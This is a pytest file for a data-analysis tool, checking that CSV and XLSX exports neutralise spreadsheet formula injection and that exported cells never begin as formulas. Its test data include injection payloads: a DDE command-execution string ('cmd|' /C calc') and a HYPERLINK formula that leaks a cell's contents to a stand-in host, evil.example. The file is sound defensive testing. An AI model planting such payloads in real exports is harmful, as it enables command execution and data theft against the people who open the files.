"""One formula rule, and every export neutralising what it finds (OWASP)."""

from __future__ import annotations

import csv
import io
import json

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from analysis.cli import main
from analysis.figures.layout import safe_filename
from analysis.formulas import csv_safe, csv_safe_frame, inert_workbook, is_formula
from analysis.ingest.demo import demo_waves
from analysis.store.wave import Wave, WaveMeta
from analysis.store.wave_store import WaveStore
from analysis.table.crosstab import to_csv_bytes, to_xlsx_bytes

RULE = [
    # the four prefixes, as attackers write them
    ("=1+2", True),
    ('=HYPERLINK("http://evil.example/?"&A1;"click")', True),
    ("+cmd|' /C calc'!A0", True),
    ("-2+3+cmd|' /C calc'!A0", True),
    ("@SUM(1+1)*cmd|' /C calc'!A0", True),
    ("-A1+B2", True),
    ("- great service", True),
    # tab and carriage return in front
    ("\t=1+2", True),
    ("\rhello", True),
    # full-width and small forms, and invisible characters in front
    ("＝1+2", True),
    ("＋cmd|' /C calc'!A0", True),
    ("－A1", True),
    ("＠SUM(A1)", True),
    ("﹦1+2", True),
    ("\u2212A1", True),
    ("\u200b=1+2", True),
    ("\u200c\u200d+A1", True),
    ("\ufeff@SUM(A1)", True),
    ("\u2060=1", True),
    ("  =1+2", True),
    # numbers stay numbers; signs alone are no formula
    ("-3", False),
    ("+4.5", False),
    ("-1 234,5", False),
    ("-12%", False),
    ("+33 6 12 34 56 78", False),
    ("-1e5", False),
    ("-", False),
    ("--", False),
    # ordinary text
    ("25-34", False),
    ("65+", False),
    ("e-mail", False),
    ("a=b", False),
    ("'=1+2", False),
    ("", False),
    (-3.5, False),
    (7, False),
    (None, False),
]


@pytest.mark.parametrize(("value", "formula"), RULE, ids=[repr(v) for v, _ in RULE])
def test_the_rule(value, formula):
    assert is_formula(value) is formula


@pytest.mark.parametrize(("value", "formula"), RULE, ids=[repr(v) for v, _ in RULE])
def test_csv_cells_get_an_apostrophe_and_numbers_stay(value, formula):
    expected = "'" + value if formula else value
    assert csv_safe(value) == expected


@settings(max_examples=300, derandomize=True, deadline=None)
@given(st.one_of(st.text(max_size=30), st.floats(), st.integers()))
def test_a_neutralised_cell_is_never_a_formula(value):
    assert not is_formula(csv_safe(value))
    if not isinstance(value, str):
        assert csv_safe(value) is value


@settings(max_examples=300, derandomize=True, deadline=None)
@given(st.lists(st.text(max_size=20), min_size=1, max_size=4))
def test_png_file_names_are_never_formulas_or_paths(parts):
    stem = safe_filename(*parts)
    assert stem and not is_formula(stem)
    assert "/" not in stem and "\\" not in stem and not stem.startswith(".")


def banner() -> pd.DataFrame:
    index = pd.MultiIndex.from_tuples(
        [("=1+2 metric", "% (index /100)"), ("+cmd|' /C calc'!A0", "base n")],
        names=["metric", "statistic"],
    )
    return pd.DataFrame(
        {"Total": ["-12", "1 000"], "@SUM(A1) (A)": ["＝HYPERLINK(1)", "-3"]},
        index=index,
    )


def test_crosstab_csv_cells_start_with_an_apostrophe():
    rows = list(csv.reader(io.StringIO(to_csv_bytes(banner()).decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert "'=1+2 metric" in cells and "'+cmd|' /C calc'!A0" in cells
    assert "'@SUM(A1) (A)" in cells and "'＝HYPERLINK(1)" in cells
    assert "-12" in cells and "-3" in cells  # numbers stay numbers
    assert not [c for c in cells if is_formula(c)]


def test_crosstab_xlsx_has_no_formula_cell_and_labels_stay_text():
    raw = to_xlsx_bytes(banner(), "=1+2 by country")
    sheet = openpyxl.load_workbook(io.BytesIO(raw))["Banner"]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    title = sheet["A1"]
    assert title.value == "=1+2 by country" and title.data_type == "s"
    assert title.quotePrefix
    texts = {c.value: c for c in cells}
    assert texts["@SUM(A1) (A)"].data_type == "s" and texts["@SUM(A1) (A)"].quotePrefix
    assert texts["=1+2 metric"].data_type == "s"


def test_inert_workbook_changes_what_openpyxl_took_for_formulas():
    book = openpyxl.Workbook()
    book.active.append(["=1+2", "plain", -3, "-4"])
    assert book.active["A1"].data_type == "f"
    assert inert_workbook(book) == 1
    assert book.active["A1"].data_type == "s" and book.active["C1"].value == -3
    assert not book.active["D1"].quotePrefix


def test_csv_safe_frame_keeps_numbers_and_duplicate_columns():
    frame = pd.DataFrame([["=x", -1.5, "=y"]], columns=["a", "b", "a"])
    safe = csv_safe_frame(frame)
    assert safe.iloc[0].tolist() == ["'=x", -1.5, "'=y"] and frame.iloc[0, 0] == "=x"


@pytest.fixture
def hostile_store(tmp_path, codebook):
    """A store an older release could have written: formula-like names kept.

    The wave is named "=1+2" and its country values are formulas.
    """
    wave = demo_waves(codebook)[0]
    data = wave.data.copy()
    data["country"] = ['=HYPERLINK("http://x")', "+cmd|' /C calc'!A0"] * (
        len(data) // 2
    ) + ["FR"] * (len(data) % 2)
    meta = WaveMeta(
        name="=1+2",
        kind="respondents",
        source="test",
        file_name="x.csv",
        file_sha256="0" * 64,
    )
    path = tmp_path / "hostile.duckdb"
    WaveStore(path).add_wave(Wave(meta=meta, data=data))
    return path


def test_estimate_csv_writes_no_formula_cell(capsys, hostile_store):
    status = main(
        [
            "estimate",
            "--wave",
            "=1+2",
            "--metric",
            "churn_unprotected",
            "--by",
            "country",
            "--format",
            "csv",
            "--store",
            str(hostile_store),
        ]
    )
    out = capsys.readouterr().out
    assert status == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    assert {r["wave"] for r in rows} == {"'=1+2"}
    values = {r["segment_value"] for r in rows}
    assert {'\'=HYPERLINK("http://x")', "'+cmd|' /C calc'!A0"} <= values
    assert not [c for r in rows for c in r.values() if is_formula(c)]
    numbers = [float(r["estimate"]) for r in rows if r["estimate"]]
    assert numbers and all(0 <= v <= 1 for v in numbers)


def test_estimate_json_is_left_as_data(capsys, hostile_store):
    main(
        [
            "estimate",
            "--wave",
            "=1+2",
            "--metric",
            "churn_unprotected",
            "--format",
            "json",
            "--store",
            str(hostile_store),
        ]
    )
    rows = json.loads(capsys.readouterr().out)
    assert rows[0]["wave"] == "=1+2"  # JSON is no spreadsheet: values as stored
